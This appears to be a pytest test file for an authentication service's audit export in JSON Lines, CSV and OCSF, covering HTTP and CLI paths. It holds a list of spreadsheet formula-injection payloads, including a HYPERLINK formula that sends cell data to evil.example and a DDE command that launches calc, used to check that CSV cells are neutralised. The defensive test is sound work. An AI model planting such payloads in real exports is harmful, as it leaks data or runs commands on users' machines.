"""Audit export: 10,000 events in JSON Lines, CSV and OCSF, over HTTP and the CLI.

The 10,000 events are built once per backend (module scope) through the real pipeline:
enqueued in identity transactions, then moved into the hash chain by the relay. Every
format is read back with a standard reader and counted; every OCSF line is validated
against ``ocsf_emitter``'s models, which are generated from the OCSF 1.5.0 schema, plus
its invariant checks (class and category identity, ``type_uid``, schema version), and a
walk that refuses any attribute the schema does not define (outside ``unmapped``).
A filter gives exactly the events ``search_events`` gives for it.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import os
import secrets
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import ocsf_emitter
import pytest
from fastapi.testclient import TestClient
from ocsf_emitter import defaults as ocsf_defaults
from pydantic import BaseModel

from echo_auth.app import create_app
from echo_auth.audit.events import (
    CATALOG,
    Actor,
    AuditEvent,
    Source,
    Target,
    format_timestamp,
    parse_timestamp,
)
from echo_auth.audit.export import (
    CSV_COLUMNS,
    OCSF_MAPPING,
    OCSF_VERSION,
    export_events,
    neutralize_cell,
    plan_export,
    to_ocsf,
)
from echo_auth.audit.outbox import enqueue_events
from echo_auth.audit.search import EventFilter, InvalidQuery, search_events
from echo_auth.db.engines import transaction
from echo_auth.identity.provisioning import create_user_by_operator
from echo_auth.runtime import Runtime, operator_actor
from tests.fixtures.app import PASSWORD, deliver
from tests.fixtures.db import BACKENDS, Databases, MySQLServer, make_settings

N_EVENTS = 10_000
ENQUEUE_BATCH = 1_000
T0 = datetime(2026, 11, 1, tzinfo=UTC)
# Cells a spreadsheet would run as formulas, or that a naive CSV writer would break on.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab",
    "\rleading carriage return",
    'quote " comma , and\nnewline',
    "ünïcødé ✓",
]
ACTIONS = sorted(CATALOG)


@dataclass
class Seeded:
    runtime: Runtime
    event_ids: list[str]
    hostile_ids: set[str]


def _event(i: int) -> AuditEvent:
    """A varied, deterministic event: every catalog action, actor type and outcome."""
    action = ACTIONS[i % len(ACTIONS)]
    kind = ("user", "admin", "system", "anonymous")[i % 4]
    hostile = HOSTILE[i % len(HOSTILE)] if i % 97 == 0 else None
    if kind == "user":
        actor = Actor("user", f"u{i % 50}", hostile or f"user{i % 50}@example.com")
    elif kind == "admin":
        actor = Actor("admin", "ops@host1", "ops")
    elif kind == "system":
        actor = Actor.system("relay" if i % 2 else "echo")
    else:
        actor = Actor("anonymous", None, f"typed{i % 7}@example.com")
    return AuditEvent(
        action=action,
        outcome=("success", "failure", "denied")[i % 3],
        reason=None if i % 3 == 0 else (hostile or "invalid_credentials")[:64],
        actor=actor,
        target=Target("session" if action == "auth.logout" else "user", f"u{(i * 7) % 50}"),
        source=Source(
            ip=f"203.0.113.{i % 11}" if i % 5 else None,
            user_agent=hostile or f"agent/{i % 3}",
            request_id=f"req-{i}",
        ),
        metadata={"i": i, "mfa": i % 2 == 0, "session_id": f"s{i}"} if i % 4 else {},
        occurred_at=T0 + timedelta(seconds=i),
    )


@functools.cache
def _batches() -> list[list[AuditEvent]]:
    """The same 10,000 events for both backends (immutable), built once."""
    return [
        [_event(i) for i in range(start, start + ENQUEUE_BATCH)]
        for start in range(0, N_EVENTS, ENQUEUE_BATCH)
    ]


def _seed(runtime: Runtime) -> Seeded:
    ids: list[str] = []
    hostile: set[str] = set()
    for events in _batches():
        with transaction(runtime.identity) as conn:
            enqueue_events(conn, events)
        ids.extend(e.event_id for e in events)
        hostile.update(e.event_id for e in events if e.source.user_agent in HOSTILE)
    assert deliver(runtime) == N_EVENTS
    return Seeded(runtime, ids, hostile)


@pytest.fixture(scope="module", params=BACKENDS)
def seeded(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Seeded]:
    tmp = tmp_path_factory.mktemp(f"export-{request.param}")
    names: tuple[str, ...] = ()
    server: MySQLServer | None = None
    if request.param == "sqlite":
        dbs = Databases(
            "sqlite", f"sqlite:///{tmp / 'identity.db'}", f"sqlite:///{tmp / 'audit.db'}"
        )
    else:
        server = request.getfixturevalue("mysql_server")
        stem = f"echo_t{os.getpid()}_{secrets.token_hex(4)}"
        names = (f"{stem}_identity", f"{stem}_audit")
        for name in names:
            server.create_database(name)
        dbs = Databases("mysql", server.url(names[0]), server.url(names[1]), *names)
    runtime = Runtime(make_settings(tmp / "var", dbs, relay_batch_size=2000), pool_size=4)
    try:
        runtime.upgrade_databases()
        yield _seed(runtime)
    finally:
        runtime.close()
        if server is not None:
            for name in names:
                server.drop_database(name)


def _export(runtime: Runtime, fmt: str, f: EventFilter | None = None) -> str:
    with transaction(runtime.audit_reader, write=False) as conn:
        return "".join(export_events(conn, f or EventFilter(), fmt, batch=700))


def _searched_ids(runtime: Runtime, f: EventFilter) -> list[str]:
    """Every id search_events gives, page by page, oldest first."""
    ids: list[str] = []
    cursor = None
    with transaction(runtime.audit_reader, write=False) as conn:
        while True:
            page = search_events(conn, f, cursor=cursor, limit=500)
            ids.extend(e["event_id"] for e in page.events)
            if page.next_cursor is None:
                return ids[::-1]
            cursor = page.next_cursor


def _schema_extras(value: Any, path: str = "") -> list[str]:
    """Attributes the OCSF schema does not define (``unmapped`` is where ours go)."""
    found: list[str] = []
    if isinstance(value, BaseModel):
        if type(value).__name__ == "Object":  # OCSF's free-form object (unmapped)
            return found
        found.extend(f"{path}.{key}" for key in value.model_extra or {})
        for name in type(value).model_fields:
            found.extend(_schema_extras(getattr(value, name), f"{path}.{name}"))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            found.extend(_schema_extras(item, f"{path}[{i}]"))
    return found


def validate_ocsf(doc: dict[str, Any], walked: set[tuple[Any, ...]] | None = None) -> BaseModel:
    """Validate one OCSF event with ocsf_emitter; raises naming the bad fields.

    The walk for attributes outside the schema costs as much as the validation, so with
    ``walked`` it runs once per shape of event (class, activity, actor, what is filled in).
    """
    spec = ocsf_defaults.class_spec_by_uid(doc["class_uid"])
    assert spec is not None, f"class {doc['class_uid']} is not an OCSF {OCSF_VERSION} class"
    model = getattr(ocsf_emitter.models, spec.model_name).model_validate(doc)
    checked = ocsf_emitter.validate(model)
    shape = (
        doc["class_uid"],
        doc["activity_id"],
        tuple(sorted(doc)),
        tuple(sorted(doc.get("actor") or {})),
        tuple(sorted((doc.get("actor") or {}).get("user") or {})),
        tuple(sorted(doc.get("user") or {})),
    )
    if walked is None or shape not in walked:
        extras = _schema_extras(checked)
        assert not extras, f"{doc['metadata']['event_code']}: not in the OCSF schema: {extras}"
        if walked is not None:
            walked.add(shape)
    return checked


def _ms(moment: datetime) -> int:
    return (moment - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(milliseconds=1)


def _stored(event: AuditEvent, seq: int = 1) -> dict[str, Any]:
    doc = event.to_document()
    doc.update(seq=seq, hash="a" * 64, prev_hash="0" * 64, recorded_at=doc["occurred_at"])
    return doc


# -- without a database ---------------------------------------------------------------------


def test_every_catalog_action_maps_to_a_valid_ocsf_event() -> None:
    assert set(OCSF_MAPPING) <= set(CATALOG)
    actors = [
        Actor("user", "u1", "ana@example.com"),
        Actor("admin", "root@box", "root"),
        Actor.system(),
        Actor.anonymous(),
    ]
    for action in CATALOG:
        for outcome in ("success", "failure", "denied"):
            for actor in actors:
                event = AuditEvent(
                    action=action,
                    outcome=outcome,
                    actor=actor,
                    source=Source("2001:db8::1", "UA", "r1"),
                )
                validate_ocsf(to_ocsf(_stored(event)))
    # An action someone adds later still exports as a valid event.
    doc = _stored(AuditEvent("system.started", "success", Actor.system()))
    doc["action"] = "some.future.action"
    assert validate_ocsf(to_ocsf(doc)).class_uid == 6003


def test_ocsf_mapping_of_the_main_events() -> None:
    login = AuditEvent(
        "auth.login.failed",
        "failure",
        Actor("anonymous", None, "who@example.com"),
        target=Target("user", None),
        reason="unknown_user",
        source=Source("203.0.113.9", "Mozilla/5.0", "req-1"),
    )
    doc = to_ocsf(_stored(login, seq=42))
    assert (doc["class_uid"], doc["activity_id"], doc["type_uid"]) == (3002, 1, 300201)
    assert (doc["category_uid"], doc["status_id"], doc["status_detail"]) == (3, 2, "unknown_user")
    assert doc["metadata"]["uid"] == login.event_id
    assert doc["metadata"]["sequence"] == 42
    assert doc["metadata"]["product"]["name"] == "Echo"
    assert doc["metadata"]["version"] == OCSF_VERSION
    assert doc["metadata"]["correlation_uid"] == "req-1"
    assert doc["time"] == _ms(login.occurred_at)
    assert doc["src_endpoint"] == {"ip": "203.0.113.9"}
    assert doc["http_request"]["user_agent"] == "Mozilla/5.0"
    assert doc["user"]["email_addr"] == "who@example.com"
    assert doc["unmapped"]["hash"] == "a" * 64
    expected = {
        "auth.logout": (3002, 2),
        "auth.mfa.succeeded": (3002, 1),
        "user.signed_up": (3001, 1),
        "password.changed": (3001, 3),
        "password.reset.completed": (3001, 4),
        "admin.user.disabled": (3001, 5),
        "admin.user.enabled": (3001, 2),
        "account.locked": (3001, 9),
        "account.unlocked": (3001, 12),
        "mfa.totp.enrolled": (3001, 10),
        "mfa.totp.removed": (3001, 11),
        "admin.user.viewed": (3004, 2),
        "audit.searched": (6003, 2),
    }
    for action, (class_uid, activity_id) in expected.items():
        out = to_ocsf(_stored(AuditEvent(action, "success", Actor("user", "u1", "a@b.example"))))
        assert (out["class_uid"], out["activity_id"]) == (class_uid, activity_id), action
        assert out["status_id"] == 1
        assert out["severity_id"] == (3 if action == "account.locked" else 1)
    challenged = to_ocsf(_stored(AuditEvent("auth.mfa.challenged", "success", Actor.anonymous())))
    assert challenged["status_id"] == 99  # a challenge is not a successful logon


def test_cells_that_start_a_formula_are_neutralised() -> None:
    for text in HOSTILE[:6]:
        assert neutralize_cell(text) == "'" + text
    assert neutralize_cell("ana@example.com") == "ana@example.com"
    assert neutralize_cell(None) == ""
    assert neutralize_cell("2001:db8::1") == "2001:db8::1"


# -- 10,000 events, each backend ------------------------------------------------------------


@pytest.mark.slow
def test_jsonl_export_has_every_event_with_seq_and_hash(seeded: Seeded) -> None:
    text = _export(seeded.runtime, "jsonl")
    events = [json.loads(line) for line in text.splitlines()]
    assert len(events) >= N_EVENTS
    by_id = {e["event_id"]: e for e in events}
    assert set(seeded.event_ids) <= set(by_id)
    seqs = [e["seq"] for e in events]
    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs)
    for event in events:
        assert len(event["hash"]) == 64 and len(event["prev_hash"]) == 64
    sample = by_id[seeded.event_ids[1234]]
    assert sample["actor"] and sample["occurred_at"] and sample["source"]
    assert sample["request_id"] == "req-1234"


def test_csv_export_reads_back_and_is_spreadsheet_safe(seeded: Seeded) -> None:
    text = _export(seeded.runtime, "csv")
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    rows = list(reader)
    assert len(rows) >= N_EVENTS
    by_id = {row["event_id"]: row for row in rows}
    assert set(seeded.event_ids) <= set(by_id)
    assert seeded.hostile_ids
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    for event_id in seeded.hostile_ids:
        ua = by_id[event_id]["user_agent"]
        assert ua.startswith("'") or ua[0] not in "=+-@\t\r", ua
        assert ua.removeprefix("'") in HOSTILE  # quotes, commas and newlines survive
    row = by_id[seeded.event_ids[1234]]
    assert row["seq"].isdigit() and row["request_id"] == "req-1234"


@pytest.mark.slow
def test_ocsf_export_validates_every_event(seeded: Seeded) -> None:
    text = _export(seeded.runtime, "ocsf")
    lines = text.splitlines()
    assert len(lines) >= N_EVENTS
    classes: set[int] = set()
    uids: list[str] = []
    walked: set[tuple[Any, ...]] = set()
    for line in lines:
        doc = json.loads(line)
        validate_ocsf(doc, walked)
        classes.add(doc["class_uid"])
        uids.append(doc["metadata"]["uid"])
        assert doc["time"] == _ms(parse_timestamp(doc["metadata"]["original_time"]))
    assert set(seeded.event_ids) <= set(uids)
    assert {3001, 3002, 3004, 6002, 6003, 6005, 6008} <= classes


@pytest.mark.slow
@pytest.mark.parametrize(
    "f",
    [
        EventFilter(action="auth.login.failed"),
        EventFilter(action="auth.*", outcome="failure"),
        EventFilter(actor="u8", ip="203.0.113.3"),
        EventFilter(target="u21"),
        EventFilter(q="HYPERLINK"),
        EventFilter(since=T0 + timedelta(seconds=2500), until=T0 + timedelta(seconds=2600)),
    ],
    ids=["action", "prefix+outcome", "actor+ip", "target", "text", "time"],
)
def test_filtered_export_gives_the_events_search_gives(seeded: Seeded, f: EventFilter) -> None:
    expected = _searched_ids(seeded.runtime, f)
    assert expected
    jsonl = [
        json.loads(line)["event_id"]
        for line in _export(seeded.runtime, "jsonl", f).split("\n")
        if line
    ]
    assert jsonl == expected
    rows = csv.DictReader(io.StringIO(_export(seeded.runtime, "csv", f), newline=""))
    assert [row["event_id"] for row in rows] == expected
    ocsf = [
        json.loads(line)["metadata"]["uid"]
        for line in _export(seeded.runtime, "ocsf", f).splitlines()
    ]
    assert ocsf == expected


def test_export_checks_its_format(seeded: Seeded) -> None:
    with (
        transaction(seeded.runtime.audit_reader, write=False) as conn,
        pytest.raises(InvalidQuery, match="format"),
    ):
        export_events(conn, EventFilter(), "xml")


def test_export_stops_at_the_planned_head(seeded: Seeded) -> None:
    f = EventFilter(action="auth.logout")
    with transaction(seeded.runtime.audit_reader, write=False) as conn:
        plan = plan_export(conn, f, "jsonl")
        lines = list(export_events(conn, f, "jsonl", through_seq=plan.through_seq - 5000))
    assert 0 < len(lines) < plan.count
    assert all(json.loads(line)["seq"] <= plan.through_seq - 5000 for line in lines)


# -- HTTP -----------------------------------------------------------------------------------


def _login(client: TestClient, email: str) -> dict[str, str]:
    r = client.post("/v1/login", json={"email": email, "password": PASSWORD})
    assert r.status_code == 200, r.text
    client.cookies.clear()
    return {"Authorization": f"Bearer {r.json()['session_token']}"}


@pytest.mark.slow
def test_http_export_streams_each_format_and_records_it(seeded: Seeded) -> None:
    runtime = seeded.runtime
    operator, source = operator_actor()
    suffix = secrets.token_hex(3)
    auditor, plain = f"aud{suffix}@example.com", f"plain{suffix}@example.com"
    create_user_by_operator(runtime.auth, auditor, PASSWORD, ["auditor"], operator, source)
    create_user_by_operator(runtime.auth, plain, PASSWORD, ["user"], operator, source)
    f = EventFilter(action="auth.login.failed", outcome="failure")
    expected = _searched_ids(runtime, f)
    app = create_app(runtime.settings, runtime=runtime)
    with TestClient(app, base_url="http://127.0.0.1:8000") as client:
        headers = _login(client, auditor)
        params = {"action": "auth.login.failed", "outcome": "failure"}
        r = client.get("/v1/audit/export", params={**params, "format": "csv"}, headers=headers)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
        disposition = r.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="echo-audit-')
        assert disposition.endswith('.csv"')
        rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
        assert [row["event_id"] for row in rows] == expected

        r = client.get("/v1/audit/export", params={**params, "format": "ocsf"}, headers=headers)
        assert r.headers["content-type"].startswith("application/x-ndjson")
        assert r.headers["content-disposition"].endswith('.ocsf.jsonl"')
        docs = [json.loads(line) for line in r.text.splitlines()]
        assert [validate_ocsf(d).metadata.uid for d in docs] == expected

        r = client.get("/v1/audit/export", params={"format": "jsonl"}, headers=headers)
        everything = [json.loads(line) for line in r.text.splitlines()]
        assert set(seeded.event_ids) <= {e["event_id"] for e in everything}

        r = client.get("/v1/audit/export", params={"format": "xml"}, headers=headers)
        assert r.status_code == 422
        assert r.headers["content-type"] == "application/problem+json"
        assert r.json()["code"] == "validation_error"
        bad_time = {"format": "csv", "since": "yesterday"}
        assert client.get("/v1/audit/export", params=bad_time, headers=headers).status_code == 422
        refused = client.get("/v1/audit/export", headers=_login(client, plain))
        assert refused.status_code == 403
        assert client.get("/v1/audit/export").status_code == 401

    deliver(runtime)
    recorded = _recorded_exports(runtime, actor=auditor)
    assert [e["metadata"]["format"] for e in recorded] == ["csv", "ocsf", "jsonl"]
    first = recorded[0]
    assert first["actor"]["type"] == "user" and first["outcome"] == "success"
    assert first["metadata"]["filters"] == {"action": "auth.login.failed", "outcome": "failure"}
    assert first["metadata"]["events"] == len(expected)
    assert first["source"]["ip"]


def _recorded_exports(runtime: Runtime, **filters: str) -> list[dict[str, Any]]:
    with transaction(runtime.audit_reader, write=False) as conn:
        page = search_events(conn, EventFilter(action="audit.exported", **filters), limit=50)
    return page.events[::-1]


# -- CLI ------------------------------------------------------------------------------------


def _cli(runtime: Runtime, cwd: Path, *args: str) -> subprocess.Popen[str]:
    s = runtime.settings
    env = {k: v for k, v in os.environ.items() if not k.startswith("ECHO_")}
    env.update(
        ECHO_ENV="test",
        ECHO_DATA_DIR=str(s.data_dir),
        ECHO_IDENTITY_DB_URL=s.identity_db_url,
        ECHO_AUDIT_DB_URL=s.audit_db_url,
    )
    return subprocess.Popen(
        [sys.executable, "-m", "echo_auth", "audit", *args],
        cwd=cwd,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


@pytest.mark.slow
def test_cli_export_to_a_file_and_to_stdout(seeded: Seeded, tmp_path: Path) -> None:
    runtime = seeded.runtime
    f = EventFilter(action="user.*", ip="203.0.113.4")
    expected = _searched_ids(runtime, f)
    out = tmp_path / "out.csv"
    to_file = _cli(
        runtime,
        tmp_path,
        "export",
        "--format",
        "csv",
        "--action",
        "user.*",
        "--ip",
        "203.0.113.4",
        "--output",
        str(out),
    )
    to_stdout = _cli(runtime, tmp_path, "export", "--format=ocsf", "--action", "user.*")
    procs = [to_file, to_stdout]
    if runtime.settings.identity_db_url.startswith("sqlite"):  # the same on both backends
        procs.append(_cli(runtime, tmp_path, "export", "--format", "xml"))
    results = [(p, *p.communicate(timeout=120)) for p in procs]

    proc, stdout, stderr = results[0]
    assert proc.returncode == 0, stderr
    assert stdout == "" and "exported" in stderr
    with out.open(encoding="utf-8", newline="") as written:
        rows = list(csv.DictReader(written))
    assert [row["event_id"] for row in rows] == expected
    assert not (tmp_path / "out.csv.part").exists()

    proc, stdout, stderr = results[1]
    assert proc.returncode == 0, stderr
    docs = [json.loads(line) for line in stdout.splitlines()]
    assert [validate_ocsf(d).metadata.uid for d in docs] == _searched_ids(
        runtime, EventFilter(action="user.*")
    )

    for proc, stdout, stderr in results[2:]:  # a bad format: exit 2, one line
        assert proc.returncode == 2, stderr
        assert stdout == "" and "Traceback" not in stderr
        assert stderr.splitlines() == ["echo-auth: format: must be one of jsonl, csv, ocsf"]

    deliver(runtime)
    recorded = _recorded_exports(runtime, actor=operator_actor()[0].id or "")
    assert {e["actor"]["type"] for e in recorded} == {"admin"}
    done = [e for e in recorded if e["outcome"] == "success"]
    assert sorted(e["metadata"]["format"] for e in done) == ["csv", "ocsf"]
    by_format = {e["metadata"]["format"]: e for e in done}
    assert by_format["csv"]["metadata"]["events"] == len(expected)
    assert by_format["csv"]["metadata"]["output"] == str(out)
    assert by_format["ocsf"]["metadata"]["output"] == "stdout"
    assert by_format["csv"]["metadata"]["command"].startswith("echo-auth audit export")


def test_timestamps_round_trip_in_every_format(seeded: Seeded) -> None:
    f = EventFilter(since=T0 + timedelta(seconds=10), until=T0 + timedelta(seconds=11))
    [event] = [json.loads(line) for line in _export(seeded.runtime, "jsonl", f).splitlines()]
    assert event["occurred_at"] == format_timestamp(T0 + timedelta(seconds=10))
    [row] = list(csv.DictReader(io.StringIO(_export(seeded.runtime, "csv", f), newline="")))
    assert row["occurred_at"] == event["occurred_at"]
    [doc] = [json.loads(line) for line in _export(seeded.runtime, "ocsf", f).splitlines()]
    assert doc["time"] == _ms(T0 + timedelta(seconds=10)) == 1_793_491_210_000
